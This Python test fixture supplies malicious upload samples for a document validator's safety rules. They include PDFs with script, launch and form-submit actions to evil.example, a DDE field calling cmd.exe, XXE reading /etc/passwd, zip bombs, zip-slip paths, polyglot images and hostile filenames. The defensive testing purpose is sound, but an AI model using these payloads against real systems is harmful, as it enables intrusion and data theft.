"""The bad uploads of safety.md G11: each with the name it comes under, its bytes, and the reasons for which it may be refused."""

import struct
import zlib
from typing import Any

import pikepdf

from documents.tests.good_files import pdf, picture
from documents.tests.office_files import WORDS, archive, excel, rels, word

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
MHTML = b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + HTML
XXE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + WORDS.format(body="<w:p>&e;</w:p>")
LAUGHS = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>' + WORDS.format(body="&b;")
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_EXCEL = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
VBA = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
DDE = "<w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe </w:instrText></w:r></w:p>"
XXE_WIDE = XXE.replace('version="1.0"', 'version="1.0" encoding="utf-16"').encode("utf-16")
DDE_WIDE = WORDS.format(body=DDE).encode("utf-16")
Bad = dict[str, tuple[str, bytes, set[str]]]


def action(**entries: Any) -> Any:
    """Puts an action that runs when the PDF opens."""

    def change(file: pikepdf.Pdf) -> None:
        file.Root.OpenAction = pikepdf.Dictionary({f"/{key}": value for key, value in entries.items()})

    return change


def at_root(key: str, value: Any) -> Any:
    """Puts something into the PDF's catalogue."""

    def change(file: pikepdf.Pdf) -> None:
        file.Root[key] = value(file) if callable(value) else value

    return change


def attached(file: pikepdf.Pdf) -> None:
    """Another file inside the PDF."""
    file.attachments["other.exe"] = b"MZ" + EICAR


def on_page(file: pikepdf.Pdf) -> None:
    """A script deep inside: an annotation's own action in a list in a dictionary."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    file.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=script)])


def script_url(file: pikepdf.Pdf) -> None:
    """A link that is a script."""
    link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:alert(1)")
    file.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=link)])


def hidden_name(data: bytes) -> bytes:
    """The PDF with the name of the action written in another way that means the same."""
    assert b"/JavaScript" in data
    return data.replace(b"/JavaScript", b"/#4aavaScript", 1)


def big_png(width: int, height: int) -> bytes:
    """A few bytes that promise a huge picture."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack("!I", len(content)) + kind + content + struct.pack("!I", zlib.crc32(kind + content))

    head = chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 10_000)) + chunk(b"IEND", b"")


def flagged(data: bytes, offset: int, value: int) -> bytes:
    """The archive with a byte changed in every entry of its directory, `offset` bytes in, and where it stands there in every part."""
    changed = bytearray(data)
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + offset] |= value
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def overlapping() -> bytes:
    """Two entries of the directory that are the same bytes."""
    data = bytearray(word({"word/a.xml": "<a/>" * 50, "word/b.xml": "<a/>" * 50}))
    first = data.find(b"PK\x01\x02", 0)
    entries = []
    while first >= 0:
        entries.append(first)
        first = data.find(b"PK\x01\x02", first + 4)
    data[entries[-1] + 42 : entries[-1] + 46] = data[entries[-2] + 42 : entries[-2] + 46]
    return bytes(data)


def lying() -> bytes:
    """A part that promises ten bytes and unpacks to a million."""
    data = bytearray(word({"word/media/image9.png": b"\0" * 1_000_000}))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def twice_named() -> bytes:
    """One name for two parts: readers differ in which one counts."""
    data = word({"word/document.xmL": WORDS.format(body="")})
    return data.replace(b"word/document.xmL", b"word/document.xml")


def nested(depth: int) -> bytes:
    """A zip in a zip in a zip."""
    data = b"\0" * 100_000
    for level in range(depth):
        data = archive({f"level{level}.zip": data})
    return data


MEGA = 1024 * 1024
JS_ACTION = {"S": pikepdf.Name.JavaScript, "JS": "app.alert(1)"}
IN_DOCUMENT = "word/_rels/document.xml.rels"
PDFS: Bad = {
    "pdf script": ("a.pdf", pdf(action(**JS_ACTION)), {"active_pdf"}),
    "pdf script under another spelling": (
        "a.pdf",
        hidden_name(pdf(action(**JS_ACTION), object_stream_mode=pikepdf.ObjectStreamMode.disable)),
        {"active_pdf", "damaged"},
    ),
    "pdf script in an object stream": (
        "a.pdf",
        pdf(action(**JS_ACTION), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        {"active_pdf"},
    ),
    "pdf script on a page": ("a.pdf", pdf(on_page), {"active_pdf"}),
    "pdf script by name": ("a.pdf", pdf(at_root("/Names", pikepdf.Dictionary(JavaScript=pikepdf.Dictionary()))), {"active_pdf"}),
    "pdf script as a link": ("a.pdf", pdf(script_url), {"active_pdf"}),
    "pdf launch": ("a.pdf", pdf(action(S=pikepdf.Name.Launch, F="cmd.exe")), {"active_pdf"}),
    "pdf that sends a form": ("a.pdf", pdf(action(S=pikepdf.Name.SubmitForm, F="https://evil.example")), {"active_pdf"}),
    "pdf that imports data": ("a.pdf", pdf(action(S=pikepdf.Name.ImportData, F="x.fdf")), {"active_pdf"}),
    "pdf that opens another file": ("a.pdf", pdf(action(S=pikepdf.Name.GoToR, F="//evil.example/share")), {"active_pdf"}),
    "pdf with additional actions": ("a.pdf", pdf(at_root("/AA", pikepdf.Dictionary(WC=pikepdf.Dictionary()))), {"active_pdf"}),
    "pdf with a film": ("a.pdf", pdf(action(S=pikepdf.Name.Rendition)), {"active_pdf"}),
    "pdf with an active form": ("a.pdf", pdf(at_root("/AcroForm", pikepdf.Dictionary(XFA="x"))), {"active_pdf"}),
    "pdf with EICAR inside": ("a.pdf", pdf(attached), {"active_pdf"}),
    "pdf portfolio": ("a.pdf", pdf(at_root("/Collection", pikepdf.Dictionary())), {"active_pdf"}),
    "pdf with a password": ("a.pdf", pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")), {"password"}),
    "pdf cut off": ("a.pdf", pdf(pages=5)[:-200], {"damaged"}),
    "pdf half": ("a.pdf", pdf(pages=50)[:1500], {"damaged"}),
    "pdf without pages": ("a.pdf", pdf(pages=0), {"damaged"}),
    "pdf with a page of the web behind it": ("a.pdf", pdf() + HTML, {"two_kinds", "damaged"}),
    "pdf with a page of the web in its head": ("a.pdf", pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%" + HTML + b"\n"), {"two_kinds"}),
    "page of the web before a pdf": ("a.pdf", HTML + pdf(), {"signature", "two_kinds", "damaged"}),
    "pdf and zip": ("a.pdf", pdf() + archive({"x.txt": "x"}), {"two_kinds"}),
    "pdf in name only": ("a.pdf", b"%PDF-1.7\n%%EOF", {"damaged"}),
}
PICTURES: Bad = {
    "html as jpg": ("a.jpg", HTML, {"signature"}),
    "svg as jpg": ("a.jpg", SVG, {"signature"}),
    "mhtml as jpg": ("a.jpg", MHTML, {"signature"}),
    "xhtml as png": ("a.png", b'<?xml version="1.0"?>' + HTML, {"signature"}),
    "gif and script as png": ("a.png", b"GIF89a=1;alert(1)//" + b"\0" * 50, {"signature"}),
    "gif and script as jpg": ("a.jpg", b"GIF89a/*" + b"\0" * 50 + b"*/=1;alert(1)", {"signature"}),
    "gif": ("a.gif", picture(kind="GIF"), {"ending"}),
    "png as jpg": ("a.jpg", picture(kind="PNG"), {"signature"}),
    "jpg as png": ("a.png", picture(), {"signature"}),
    "jpg and zip": ("a.jpg", picture() + archive({"x.js": "alert(1)"}), {"two_kinds"}),
    "png and zip": ("a.png", picture(kind="PNG") + archive({"x.js": "alert(1)"}), {"two_kinds"}),
    "jpg and docx": ("a.jpg", picture() + word(), {"two_kinds"}),
    "png of 20,000 by 20,000": ("a.png", big_png(20_000, 20_000), {"pixels"}),
    "png of two thousand million": ("a.png", big_png(2**31 - 1, 1), {"pixels", "damaged"}),
    "png of 6,000 by 6,000": ("a.png", big_png(6_000, 6_000), {"pixels"}),
    "jpg cut off": ("a.jpg", picture(size=(600, 400))[:700], {"damaged"}),
    "png cut off": ("a.png", picture(kind="PNG", size=(600, 400))[:60], {"damaged"}),
    "jpg of three bytes": ("a.jpg", b"\xff\xd8\xff", {"damaged"}),
    "png of zero width": ("a.png", big_png(0, 10), {"damaged"}),
    "jpg with a script for a body": ("a.jpg", b"\xff\xd8\xff\xe0" + HTML, {"damaged"}),
}
OFFICE: Bad = {
    "docm as docx": ("a.docx", word({"word/vbaProject.bin": OLE}, main=MACRO_WORD), {"macros", "active_office"}),
    "docm main part as docx": ("a.docx", word(main=MACRO_WORD), {"macros"}),
    "macros under another name": ("a.docx", word({"word/x.bin": OLE}, types=VBA), {"macros"}),
    "xlsm as xlsx": ("a.xlsx", excel({"xl/vbaProject.bin": OLE}, main=MACRO_EXCEL), {"macros", "active_office"}),
    "sheet of old macros": ("a.xlsx", excel({"xl/macrosheets/sheet1.xml": "<xm/>"}), {"active_office"}),
    "activeX": ("a.docx", word({"word/activeX/activeX1.bin": OLE}), {"active_office"}),
    "another file inside": ("a.docx", word({"word/embeddings/oleObject1.bin": OLE}), {"active_office"}),
    "program inside": ("a.docx", word({"word/media/setup.exe": b"MZ"}), {"active_office"}),
    "EICAR zipped inside": ("a.docx", word({"word/media/x.zip": archive({"eicar.com": EICAR})}), {"active_office"}),
    "workbook with macros behind a chart": (
        "a.docx",
        word({"word/embeddings/Sheet1.xlsx": excel({"xl/vbaProject.bin": OLE})}),
        {"active_office", "macros"},
    ),
    "workbook in a workbook behind a chart": (
        "a.docx",
        word({"word/embeddings/a.xlsx": excel({"xl/embeddings/b.xlsx": excel()})}),
        {"active_office"},
    ),
    "template from elsewhere": ("a.docx", word({IN_DOCUMENT: rels("attachedTemplate", "https://evil.example/t.dotm")}), {"outside_link"}),
    "picture from elsewhere": ("a.docx", word({IN_DOCUMENT: rels("image", "https://evil.example/p.png")}), {"outside_link"}),
    "frame from elsewhere": ("a.docx", word({IN_DOCUMENT: rels("frame", "\\\\evil.example\\share")}), {"outside_link"}),
    "link to a file": ("a.docx", word({IN_DOCUMENT: rels("hyperlink", "file:///c:/windows/cmd.exe")}), {"outside_link"}),
    "link to a script": ("a.docx", word({IN_DOCUMENT: rels("hyperlink", "javascript:alert(1)")}), {"outside_link"}),
    "page of the web inside": ("a.docx", word({IN_DOCUMENT: rels("aFChunk", "chunk.htm", external=False)}), {"active_office"}),
    "workbook from elsewhere": (
        "a.xlsx",
        excel({"xl/externalLinks/_rels/externalLink1.xml.rels": rels("externalLinkPath", "//evil.example/b.xlsx")}),
        {"outside_link", "active_office"},
    ),
    "data from another program": ("a.docx", word(body=DDE), {"active_office"}),
    "data from another program, in UTF-16": (
        "a.docx",
        word({"word/document.xml": DDE_WIDE}),
        {"active_office"},
    ),
    "data from another program, in Excel": (
        "a.xlsx",
        excel({"xl/externalLinks/e1.xml": "<e><ddeLink/></e>"}),
        {"active_office"},
    ),
    "outside entity": ("a.docx", word({"word/document.xml": XXE}), {"entities"}),
    "thousand laughs": ("a.docx", word({"word/document.xml": LAUGHS}), {"entities"}),
    "outside entity in UTF-16": (
        "a.docx",
        word({"word/document.xml": XXE_WIDE}),
        {"entities"},
    ),
    "broken XML": ("a.docx", word({"word/document.xml": "<w:document>"}), {"damaged"}),
    "xlsx as docx": ("a.docx", excel(), {"signature"}),
    "docx as xlsx": ("a.xlsx", word(), {"signature"}),
    "zip as docx": ("a.docx", archive({"x.txt": "x"}), {"damaged"}),
    "old doc as docx": ("a.docx", OLE, {"old_office"}),
    "old xls as xlsx": ("a.xlsx", OLE, {"old_office"}),
    "docx cut off": ("a.docx", word()[:-60], {"damaged", "two_kinds"}),
    "docx with something behind it": ("a.docx", word() + HTML, {"two_kinds"}),
    "something before a docx": ("a.docx", HTML + word(), {"signature", "two_kinds"}),
    "docx with a password": ("a.docx", flagged(word(), 8, 0x1), {"password"}),
    "path upwards": ("a.docx", word({"../../evil.xml": "<a/>"}), {"archive"}),
    "path from the root": ("a.docx", word({"/etc/cron.d/x.xml": "<a/>"}), {"archive"}),
    "path of Windows": ("a.docx", word({"c:evil.xml": "<a/>"}), {"archive"}),
    "two parts of one name": ("a.docx", twice_named(), {"archive"}),
    "parts that share their bytes": ("a.docx", overlapping(), {"archive"}),
}
BOMBS: Bad = {
    "flat bomb": ("a.docx", word({"word/media/image1.png": b"\0" * (40 * MEGA)}), {"archive"}),
    "bomb of many parts": ("a.xlsx", excel({f"xl/media/{n}.png": b"\0" * (3 * MEGA) for n in range(40)}), {"archive"}),
    "bomb of many names": ("a.docx", word({f"word/{n}.xml": "<a/>" for n in range(2_100)}), {"archive"}),
    "zip in zip": ("a.docx", word({"word/media/x.zip": nested(6)}), {"active_office"}),
    "part that lies about its size": ("a.docx", lying(), {"archive", "damaged"}),
}
NAMES: Bad = {
    name: (file_name, pdf(), {"name", "ending"})
    for name, file_name in {
        "name that climbs": "../../etc/report.pdf",
        "name that climbs in Windows": "..\\..\\report.pdf",
        "name from the root": "/etc/report.pdf",
        "name with a zero byte": "report.pdf\0.exe",
        "name written from right to left": "report\u202efdp.exe.pdf",
        "name with line breaks": "report\r\nSet-Cookie: a=b.pdf",
        "name of 300 characters": "a" * 300 + ".pdf",
        "name of a device": "CON.pdf",
        "name of a device with a dot": "com1.report.pdf",
        "name of nothing": ".pdf",
        "name of blanks": "   .pdf",
        "name with a mark": 'report".pdf',
        "name with a stream": "report.pdf::$DATA.pdf",
        "name with half a character": "report\ud800.pdf",
        "name that cannot be seen": "report\u200b.pdf",
        "name without an ending": "report",
        "name with another ending": "report.pdf.exe",
        "name of a page of the web": "report.html",
    }.items()
}
PLAIN: Bad = {
    "EICAR as pdf": ("a.pdf", EICAR, {"signature"}),
    "EICAR as docx": ("a.docx", EICAR, {"signature"}),
    "EICAR zipped": ("a.docx", archive({"eicar.com": EICAR}), {"damaged"}),
    "program as pdf": ("a.pdf", b"MZ\x90\0" + b"\0" * 500, {"signature"}),
    "nothing": ("a.pdf", b"", {"empty"}),
    "one byte": ("a.pdf", b"%", {"signature"}),
    "too large": ("a.pdf", pdf() + b" " * (21 * MEGA), {"size"}),
    "html": ("a.html", HTML, {"ending"}),
    "svg": ("a.svg", SVG, {"ending"}),
    "zip": ("a.zip", archive({"x": "x"}), {"ending"}),
    "docm": ("a.docm", word({"word/vbaProject.bin": OLE}, main=MACRO_WORD), {"ending"}),
    "rtf as docx": ("a.docx", rb"{\rtf1 {\object}}", {"signature"}),
}
BAD: Bad = PDFS | PICTURES | OFFICE | BOMBS | NAMES | PLAIN
assert len(BAD) == sum(map(len, (PDFS, PICTURES, OFFICE, BOMBS, NAMES, PLAIN)))
